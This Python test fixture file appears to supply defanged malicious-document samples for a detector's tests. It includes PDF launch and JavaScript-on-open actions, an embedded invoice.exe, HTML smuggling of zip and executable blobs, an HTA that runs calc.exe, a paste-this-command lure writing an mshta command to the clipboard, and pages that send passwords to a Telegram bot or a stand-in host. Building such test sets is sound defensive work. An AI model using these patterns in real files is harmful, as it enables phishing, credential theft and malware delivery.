"""Text fixtures: documents and pages that act: PDF, HTML, SVG."""

from __future__ import annotations

from tests.base.inert import inert

FIXTURES: dict[str, bytes] = {
    "pdf_launches_command": inert(
        r"""%PDF-1.4
1 0 obj << /Ty·pe /Cat·alog /OpenA·ction << /S /Lau·nch /Win << /F (cmd.exe) /P (/c ec·ho harm·less)·
 >> >> >> end·obj
"""
    ),
    "pdf_launch_action": inert(
        r"""%PDF-1.4
1 0 obj << /Ty·pe /Cat·alog /OpenA·ction << /S /Lau·nch /Win << /D (.) >> >> >> end·obj
"""
    ),
    "pdf_javascript_on_open": inert(
        r"""%PDF-1.4
1 0 obj << /Ty·pe /Cat·alog /OpenA·ction << /S /JavaS·cript /JS (app.be·ep\(0\)) >> >> end·obj
"""
    ),
    "pdf_javascript_unescapes": inert(
        r"""var s = unes·cape("%u4·141%u4·242"); Col·lab.get·Icon(s);
"""
    ),
    "pdf_javascript_heap_spray": inert(
        r"""var b = unes·cape("%u9·090%u9·090"); wh·ile (b.len·gth < 0x·100) b += b;
"""
    ),
    "pdf_opens_attachment": inert(
        r"""th·is.exportDa·taObject({ cN·ame: "a.txt", nLa·unch: 2 });
"""
    ),
    "pdf_attached_program": inert(
        r"""%PDF-1.4
1 0 obj << /Na·mes << /Embedd·edFiles 2 0 R >> >> end·obj
2 0 obj << /Ty·pe /File·spec /F (inv·oice.exe) /UF (inv·oice.exe) >> end·obj
"""
    ),
    "pdf_hides_names": inert(
        r"""%PDF-1.4
1 0 obj << /OpenA·ction << /S /J#61vaS·cript /JS (1) >> >> end·obj
"""
    ),
    "pdf_links_to_program": inert(
        r"""%PDF-1.4
1 0 obj << /S /URI /URI (ht·tps://exa·mple.inv·alid/se·tup.exe) >> end·obj
"""
    ),
    "pdf_submits_to_address": inert(
        r"""%PDF-1.4
1 0 obj << /S /Submi·tForm /F (ht·tp://192.0.2.7/fo·rm) >> end·obj
"""
    ),
    "html_smuggles_payload": inert(
        r"""<ht·ml><scr·ipt>var d = "UE·sDB«80»"; var b = new Bl·ob([at·ob(d)]);
var a = docu·ment.create·Element("a"); a.hr·ef = URL.createO·bjectURL(b); a.down·load = "a.zip"; a.c·
l·ick();</scr·ipt></ht·ml>
"""
    ),
    "html_data_link_program": inert(
        r"""<a hr·ef="da·ta:appli·cation/zip;bas·e64,UE·sDB«40»" down·load="inv·oice.zip">inv·oice</a>
"""
    ),
    "html_smuggles_array": inert(
        r"""<ht·ml><scr·ipt>var b = new Uint8·Array([77, 90, 0, 0]);
loca·tion = URL.createO·bjectURL(new Bl·ob([b]));</scr·ipt></ht·ml>
"""
    ),
    "html_posts_password_to_chat": inert(
        r"""<fo·rm><in·put ty·pe="pass·word" id="p"></fo·rm><scr·ipt>fe·tch("ht·tps://api.tele·gram.org/bo·t0:n·
o·ne/sendM·essage")</scr·ipt>
"""
    ),
    "html_writes_encoded_page": inert(
        r"""<scr·ipt>docu·ment.wr·ite(unes·cape('%3C%70%3E%68%61%72%6D%6C%65%73%73%20%74%65%78%74%2C%20%6E%6F%74·
%68%69%6E%67%20%65%6C%73%65%20%69%73%3C'))</scr·ipt>
"""
    ),
    "html_application_runs_program": inert(
        r"""<ht·ml><hta:appli·cation showin·taskbar="no"><scr·ipt lang·uage="VBSc·ript">
Create·Object("WSc·ript.Sh·ell").Run "ca·lc.exe" : win·dow.cl·ose</scr·ipt></ht·ml>
"""
    ),
    "html_asks_to_paste_command": inert(
        r"""<ht·ml><p>Ver·ify you are hu·man: pr·ess <b>Win·dows</b> + <b>R</b>, th·en <b>Ct·rl</b> + <b>V</b> a·
nd En·ter.</p>
<scr·ipt>navi·gator.clip·board.writ·eText("ms·hta ht·tp://exa·mple.inv·alid/a");</scr·ipt></ht·ml>
"""
    ),
    "svg_carries_script": inert(
        r"""<svg xm·lns="ht·tp://www.w3.org/20·00/svg"><scr·ipt>win·dow.loca·tion.hr·ef = at·ob("YWJvdXQ·6Ymxhbm·
s=");</scr·ipt></svg>
"""
    ),
    "html_login_from_attachment": inert(
        r"""<ht·ml><ti·tle>Si·gn in to yo·ur acc·ount</ti·tle><in·put ty·pe="pass·word">
<scr·ipt>var ma·il = loca·tion.ha·sh; fe·tch("ht·tps://exa·mple.inv·alid/ne·xt.php")</scr·ipt></ht·ml>
"""
    ),
}
